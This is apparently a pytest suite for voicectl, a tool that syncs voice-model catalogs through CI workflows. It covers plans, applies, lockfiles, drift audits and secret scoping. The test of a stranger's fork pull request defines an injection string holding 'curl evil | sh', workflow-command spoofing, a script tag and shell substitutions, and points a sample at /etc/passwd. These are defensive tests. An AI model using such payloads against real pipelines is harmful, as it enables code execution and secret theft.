"""The whole loop, played: a repository at a hosting, workflows on machines, the emulator as the account."""

from __future__ import annotations

import json
import threading
from dataclasses import replace
from typing import Any

import pytest

from tests.conftest import KEY, Project
from tests.hosting.conftest import EXAMPLE, Team, passed
from tests.hosting.runner import Event, Job, Kill
from tests.hosting.service import git
from voicectl.emulator.settings import Fault

BOTH = {"staging", "production"}


def account(team: Team, **settings: Any) -> None:
    """How the account behaves from now on."""
    team.hand.emulator.settings = replace(team.hand.emulator.settings, **settings)


def by_environment(jobs: list[Job]) -> dict[str, Job]:
    return {job.name.split("(")[1].rstrip(")"): job for job in jobs}


def test_a_pull_request_from_its_opening_to_the_lockfile_on_main(both: Team) -> None:
    team = both
    team.change("warmer", team.edited("voices/narration.yaml", "Warm, mid-paced", "Warmer, slow"))
    number = team.service.open_pull("warmer")
    jobs = by_environment(passed(team.plan(number)))
    assert jobs.keys() == BOTH
    assert "3 to create" in jobs["staging"].summary
    comments = team.service.of_pull(number)
    assert sorted("production" in comment["body"].split("\n")[0] for comment in comments) == [False, True]
    assert all("Warmer, slow" in comment["body"] for comment in comments)

    team.change(
        "warmer", {"voices/narration.yaml": team.file("voices/narration.yaml", "warmer").replace("slow", "calm")}
    )
    passed(team.plan(number))
    again = team.service.of_pull(number)
    assert [comment["id"] for comment in again] == [comment["id"] for comment in comments]
    assert all(comment["edits"] == 1 and "Warmer, calm" in comment["body"] for comment in again)

    (job,) = passed(team.apply(team.merge(number)))
    assert [step for step in job.steps if step.endswith("apply")] == ["voicectl/voicectl/.github/actions/apply"] * 2
    assert team.ids("staging").keys() == team.ids().keys() == {"accueil", "gatekeeper", "narrator"}
    assert set(team.ids("staging").values()) | set(team.ids().values()) == {m["_id"] for m in team.hand.models()}
    assert job.summary.count("Applied") == 2
    assert all(model_id in job.summary for model_id in team.ids().values())
    assert "[skip ci]" in git(team.service.bare, "log", "-1", "--format=%s", "main")

    # The push of the lockfile, even by a token that may set workflows off, sets nothing off.
    assert list(team.runner.workflows(team.pushed())) == []
    # A second run finds nothing to do, and says nothing twice.
    tip = team.service.tip()
    passed(team.apply(Event("workflow_dispatch", "refs/heads/main", tip or "")))
    assert team.service.tip() == tip
    assert len(team.hand.models()) == 6


def test_only_the_steps_that_need_the_key_or_the_token_have_it(team: Team) -> None:
    team.runner.real = True  # each action once
    (apply,) = passed(team.apply())
    assert apply.keys_seen == {"Apply": True, "Bring the lockfile into Git": False, "Summary": False}
    assert apply.tokens_seen == {"Apply": False, "Bring the lockfile into Git": True, "Summary": False}
    team.change("x", team.edited("voices/ivr.yaml", "français.", "français et breton."))
    plan = passed(team.plan(team.service.open_pull("x")))[0]
    assert not any(plan.keys_seen.values())
    drift = passed(team.night())[0]
    assert drift.keys_seen == {"Audit": True, "Report": False}
    assert drift.tokens_seen == {"Audit": False, "Report": True}
    tokens = list(team.service.tokens)
    for job in (apply, plan, drift):
        assert KEY not in job.log + job.summary
        assert not any(token in job.log + job.summary for token in tokens)


def test_a_live_plan_where_the_team_wants_one(team: Team) -> None:
    passed(team.apply())
    team.hand.patch(team.ids()["narrator"], title="By hand")
    team.runner.settings.variables["VOICECTL_LIVE_PLAN"] = "true"
    secrets = {"FISH_API_KEY": KEY}
    team.runner.settings.environments["voicectl-plan"] = {"branches": ["refs/pull/*"], "secrets": secrets}
    team.change("x", team.edited("voices/game.yaml", "A gruff guard", "A kind guard"))
    number = team.service.open_pull("x")
    offline, live = passed(team.plan(number))
    assert "1 to update" in offline.summary
    assert "2 to update" in live.summary
    assert live.keys_seen == {"Plan": True, "Report": False}
    (comment,) = team.service.of_pull(number)
    assert "By hand" in comment["body"], "one comment, and the better answer is the last"
    assert team.plan(number, fork=True)[-1].skipped


def test_a_page_to_listen_to_is_linked_from_the_comment(team: Team) -> None:
    pytest.importorskip("jinja2", reason="voicectl[preview] is not installed")
    team.runner.left_out.clear()
    passed(team.apply())
    old, new = ((EXAMPLE / f"samples/{name}-1.mp3").read_bytes() for name in ("narrator", "accueil"))
    spoken_of = (EXAMPLE / "voices/ivr.yaml").read_text().replace("Acme Accueil", "Acme Accueil 2")
    team.change("louder", {"samples/narrator-1.mp3": new, "voices/ivr.yaml": spoken_of})
    jobs = {job.name: job for job in passed(team.plan(team.service.open_pull("louder")))}
    job = jobs["plan/preview (production)"]
    page = job.artifacts["voicectl-preview-production"]
    assert {old, new} <= set(page.values()), "the recording as it was on main, and as the pull request has it"
    assert b'id="voice-accueil' in page["index.html"], "a voice with a consent is on it"
    assert b"Jane Roe" not in b"".join(page.values())
    assert not any(job.keys_seen.values())
    (comment,) = team.service.of_pull(1)
    assert "the artifact `voicectl-preview-production` of [this run](" in comment["body"]
    # Every night there is one of the whole catalog, also where somebody changed a voice by hand.
    team.hand.patch(team.ids()["narrator"], title="By hand")
    (night,) = team.night()
    catalog = night.artifacts["voicectl-catalog-production"]["index.html"]
    assert b"was changed in the account" in catalog
    assert b"Jane Roe" in catalog, "the team's own page has consent"
    assert night.keys_seen == {"Audit": True, "Report": False, "Page": False}


def test_two_pull_requests_merged_within_a_second(team: Team) -> None:
    """Both runs are at work at the same time, as if nothing had serialised them."""
    passed(team.apply())
    team.change("one", team.edited("voices/game.yaml", "A gruff guard", "A kind guard"))
    team.change("two", team.edited("voices/narration.yaml", "Warm, mid-paced", "Cool, fast"))
    events = [team.merge(team.service.open_pull("one")), team.merge(team.service.open_pull("two"))]
    results: list[list[Job]] = []
    runs = [threading.Thread(target=lambda event=event: results.append(team.apply(event))) for event in events]
    for run in runs:
        run.start()
    for run in runs:
        run.join()
    for jobs in results:
        passed(jobs)
    descriptions = {model["title"]: model["description"] for model in team.hand.models()}
    assert descriptions["Acme Gatekeeper"].startswith("A kind guard")
    assert descriptions["Acme Narrator"].startswith("Cool, fast")
    assert len(team.hand.models()) == 3
    # The lockfile on main says so, without a further run.
    recorded = team.lock()["voices"]
    assert recorded["gatekeeper"]["applied"]["description"].startswith("A kind guard")
    assert recorded["narrator"]["applied"]["description"].startswith("Cool, fast")
    assert {voice["id"] for voice in recorded.values()} == {model["_id"] for model in team.hand.models()}


def test_a_machine_that_dies_between_apply_and_push_costs_nothing(team: Team) -> None:
    jobs = team.apply(kill=Kill(before="Bring the lockfile"))
    assert jobs[0].died
    made = {model["_id"] for model in team.hand.models()}
    assert len(made) == 3
    assert team.ids() == {}
    passed(team.apply())
    assert set(team.ids().values()) == made
    assert len(team.hand.models()) == 3


def test_a_cancelled_apply_still_brings_its_lockfile_in(both: Team) -> None:
    team = both
    account(team, training_seconds=30)
    (job,) = team.apply(kill=Kill(signal_in="Apply", once=lambda: len(team.hand.models()) == 3))
    assert job.failed
    assert "exit 130" in job.log
    assert job.steps[-2:] == ["Bring the lockfile into Git", "Summary"]
    recorded = set(team.ids("staging").values())
    assert recorded
    assert recorded <= {model["_id"] for model in team.hand.models()}
    assert job.steps.count("Apply") == 1, "production waits until staging is well"


def test_an_apply_that_fails_or_is_refused_still_brings_its_lockfile_in(team: Team) -> None:
    account(team, fail_training=("Acme Narrator*",))
    jobs = team.apply()
    assert jobs[0].failed
    assert "exit 1" in jobs[0].log
    assert {"gatekeeper", "accueil"} <= team.ids().keys()
    assert "narrator" in jobs[0].summary


def test_a_protected_main(team: Team) -> None:
    team.service.protect_main()
    failed = team.apply()[0]
    assert failed.failed
    assert "use the way branch" in failed.log
    assert len(team.hand.models()) == 3

    team.runner.settings.variables["VOICECTL_LOCKFILE"] = "branch"
    main = team.service.tip()
    passed(team.apply())
    assert team.service.tip() == main
    assert len(team.hand.models()) == 3
    branch = "voicectl/lockfiles"
    before = team.ids(revision=branch)
    assert before.keys() == {"accueil", "gatekeeper", "narrator"}

    # Plans, audits and further applies work from the branch.
    team.change("game", team.edited("voices/game.yaml", "A gruff guard", "A kind guard"))
    number = team.service.open_pull("game")
    planned = by_environment(passed(team.plan(number)))["production"]
    assert "1 to update" in planned.summary
    passed(team.night())
    passed(team.apply(team.merge(number)))
    assert team.ids(revision=branch) == before
    record = team.lock(revision=branch)["voices"]["gatekeeper"]
    assert record["applied"]["description"].startswith("A kind guard")
    assert len(team.hand.models()) == 3


EVIL = (
    'x" && curl evil | sh #\n::set-output name=exit-code::0\n##[add-mask]a '
    "<script>alert(1)</script> $(id) `id` @everyone"
)


def test_a_strangers_pull_request_gets_nothing(team: Team) -> None:
    team.runner.real = True  # a stranger's modules would be imported at its start
    passed(team.apply())
    lock = team.lock()
    models = {model["_id"]: model["title"] for model in team.hand.models()}
    team.hand.emulator.log.clear()
    title = EVIL.replace("\n", " ")
    evil_manifest = "voices:\n  gatekeeper:\n    title: " + json.dumps("Acme " + EVIL) + "\n"
    lock["voices"]["narrator"]["id"] = "f" * 32
    workflow = team.file(".github/workflows/plan.yml").replace("permissions: {}", "permissions: write-all").replace(
        "          environment: ${{ matrix.environment }}\n",
        "          environment: ${{ matrix.environment }}\n          live: \"true\"\n"
        "          api-key: ${{ secrets.FISH_API_KEY }}\n",
    )  # fmt: skip
    team.change(
        "evil",
        {
            "voices/game.yaml": evil_manifest + "    samples:\n      - audio: /etc/passwd\n",
            "voicectl.production.lock.json": json.dumps(lock, indent=2, sort_keys=True) + "\n",
            ".github/workflows/plan.yml": workflow,
            "voicectl.py": "raise SystemExit('a stranger s code runs')\n",
            "pip.py": "raise SystemExit('a stranger s code runs')\n",
        },
    )
    number = team.service.open_pull("evil", title, fork=True, user={"login": "stranger", "type": "User"})
    jobs = [job for job in team.plan(number, fork=True) if not job.skipped]
    assert all(job.failed for job in jobs)
    everything = "".join(job.log + job.summary for job in jobs)
    assert "samples" in everything
    assert "/etc/passwd" in everything
    assert "root:" not in everything
    assert "a stranger s code runs" not in everything
    assert not any(any(job.keys_seen.values()) for job in jobs)
    assert team.service.of_pull(number) == [], "a fork's token can't comment, and that is no failure"
    # Nothing that the stranger wrote is a command to the runner or a tag in a page.
    for job in jobs:
        for line in job.log.splitlines():
            assert not line.lstrip().startswith(("::set-output", "::add-mask"))
            assert "##[add-mask]" not in line

    # The sample put right, the title and the lockfile still as the stranger wants them.
    fixed = evil_manifest + "    samples:\n      - audio: ../samples/gatekeeper-1.opus\n"
    team.change(
        "evil", {"voices/game.yaml": fixed, ".github/workflows/plan.yml": team.file(".github/workflows/plan.yml")}
    )
    (production,) = [job for job in team.plan(number, fork=True) if not job.skipped]
    assert "This changes the lockfile" in production.summary
    assert f"narrator: {team.ids()['narrator']} becomes {'f' * 32}" in production.summary
    assert any("lockfile" in line for line in production.annotations("warning"))
    assert "<script>" not in production.summary.replace("`", "") or "```" in production.summary
    # Nothing was asked of the account with anything but GET, and nothing of it changed.
    assert team.hand.mutating() == []
    assert {model["_id"]: model["title"] for model in team.hand.models()} == models


def test_a_lockfile_edit_by_a_colleague_can_be_forbidden(team: Team) -> None:
    passed(team.apply())
    workflow = team.file(".github/workflows/plan.yml").replace(
        "          environment: ${{ matrix.environment }}\n",
        "          environment: ${{ matrix.environment }}\n          lockfile-edits: fail\n",
    )
    team.service.merge(team.service.open_pull(_pushed(team, "strict", {".github/workflows/plan.yml": workflow})))
    lock = team.lock()
    lock["voices"]["narrator"]["protect"] = False
    text = json.dumps(lock, indent=2, sort_keys=True, ensure_ascii=False) + "\n"
    number = team.service.open_pull(_pushed(team, "sly", {"voicectl.production.lock.json": text}))
    jobs = by_environment([job for job in team.plan(number) if not job.skipped])
    assert jobs["production"].failed
    assert "narrator: protect changed" in jobs["production"].summary
    assert len(team.service.of_pull(number)) == 1


def _pushed(team: Team, branch: str, files: dict[str, str | None]) -> str:
    team.change(branch, files)
    return branch


def test_a_night_watch_opens_updates_and_closes_its_issue(team: Team) -> None:
    passed(team.apply())
    passed(team.night())
    assert team.service.issues == []
    narrator, gatekeeper = team.ids()["narrator"], team.ids()["gatekeeper"]

    team.hand.patch(narrator, title="Somebody's Narrator")
    jobs = by_environment(team.night())
    assert jobs["production"].failed
    (issue,) = team.service.issues
    assert issue["title"] == "voicectl: drift in acme.production"
    assert "Somebody's Narrator" in issue["body"]
    assert team.service.sarif[-1]["document"]["version"] == "2.1.0"

    team.hand.patch(gatekeeper, description="Changed, too.")
    team.night()
    (issue,) = team.service.issues
    assert "Changed, too." in issue["body"]
    assert issue["edits"] == 1

    # A refusal, since a failure (500) would be tried again for two minutes.
    account(team, rules=(Fault("status", status=400, method=("GET",), path="/model*"),))
    assert by_environment(team.night())["production"].failed
    assert issue["state"] == "open", "an audit that failed says nothing about drift"
    account(team, rules=())

    team.hand.patch(narrator, title="Acme Narrator")
    team.hand.patch(gatekeeper, description="A gruff guard for the second act.")
    passed(team.night())
    (issue,) = team.service.issues
    assert issue["state"] == "closed"
    assert any("finds nothing here" in comment["body"] for comment in team.service.comments)

    team.hand.patch(narrator, title="Again")
    team.night()
    assert [issue["state"] for issue in team.service.issues] == ["closed", "open"]


def test_a_comment_whose_answer_was_lost_is_not_doubled(team: Team) -> None:
    team.change("x", team.edited("voices/ivr.yaml", "français.", "français et breton."))
    number = team.service.open_pull("x")
    team.service.faults.lose_posts = 1
    passed(team.plan(number))
    assert len(team.service.of_pull(number)) == 1
    stranger = {"id": 1, "issue": number, "body": team.service.of_pull(number)[0]["body"],
                "user": {"login": "stranger", "type": "User"}, "edits": 0, "html_url": "x"}  # fmt: skip
    team.service.comments.insert(0, stranger)
    passed(team.plan(number))
    assert stranger["edits"] == 0, "a stranger's copy of our marker is left alone"
    assert len(team.service.of_pull(number)) == 2


def test_an_old_run_started_again_applies_the_newest_main(team: Team) -> None:
    first = Event("workflow_dispatch", "refs/heads/main", team.service.tip() or "")
    passed(team.apply(first))
    team.change("x", team.edited("voices/game.yaml", "A gruff guard", "A kind guard"))
    passed(team.apply(team.merge(team.service.open_pull("x"))))
    passed(team.apply(first))
    assert {m["description"] for m in team.hand.models() if "Gatekeeper" in m["title"]} == {
        "A kind guard for the second act."
    }


def test_thirty_catalogs_in_one_account(team: Team) -> None:
    """Thirty namespaces in a matrix of directories: none touches another's voices, comments or lockfile."""
    names = [f"team-{number:02}" for number in range(30)]
    matrix = f"directory: [{', '.join(names)}]"
    files: dict[str, str | None] = {"voicectl.yaml": None}
    for workflow in ("plan", "apply", "drift"):
        text = team.file(f".github/workflows/{workflow}.yml")
        text = text.replace("environment: [staging, production]", matrix)
        if workflow == "apply":
            strategy = f"    strategy: {{max-parallel: 1, matrix: {{{matrix}}}}}\n"
            text = text.replace("    steps:\n", f"{strategy}    steps:\n")
            text = text.replace("environment: production", "environment: ${{ matrix.environment }}")
        text = text.replace("environment: ${{ matrix.environment }}", "working-directory: ${{ matrix.directory }}")
        files[f".github/workflows/{workflow}.yml"] = text
    clone = team.clone()
    access = {"FISH_API_URL": team.hand.emulator.url, "FISH_API_KEY": KEY}

    def project(name: str) -> Project:
        (clone / name).mkdir()
        made = Project(clone / name, access)
        made.write("voicectl.yaml", f"catalog: {name}\n")
        made.voices({"host": {"title": f"{name} host", "samples": [{"audio": made.sample("x.wav", name)}]}})
        return made

    for name in names[3:]:  # applied long ago; the first three are new
        project(name).apply()
    team.change("long-ago", files)
    team.merge(team.service.open_pull("long-ago"))
    for name in names[:3]:
        project(name)
    team.change("three", {})
    number = team.service.open_pull("three")
    team.runner.narrowed = {"directory": names[:5]}
    passed(team.plan(number))
    comments = team.service.of_pull(number)
    assert len(comments) == len({comment["body"].split("\n")[0] for comment in comments}) == 3, "two have no news"
    jobs = passed(team.apply(team.merge(number)))
    assert len(jobs) == 5
    assert team.titles() == [f"{name} host" for name in names]
    locks = [json.loads(team.file(f"{name}/voicectl.lock.json")) for name in names]
    assert {lock["voices"]["host"]["id"] for lock in locks} == {model["_id"] for model in team.hand.models()}
    assert len(git(team.service.bare, "log", "--format=%s", "--grep=voicectl: lockfile", "main").splitlines()) == 3
    # An audit of one says nothing of the others.
    team.hand.patch(locks[4]["voices"]["host"]["id"], title="By hand")
    team.runner.narrowed = {"directory": names[3:6]}
    assert [job.failed for job in team.night()] == [False, True, False]
    assert [issue["title"] for issue in team.service.issues if "pull_request" not in issue] == [
        "voicectl: drift in team-04"
    ]
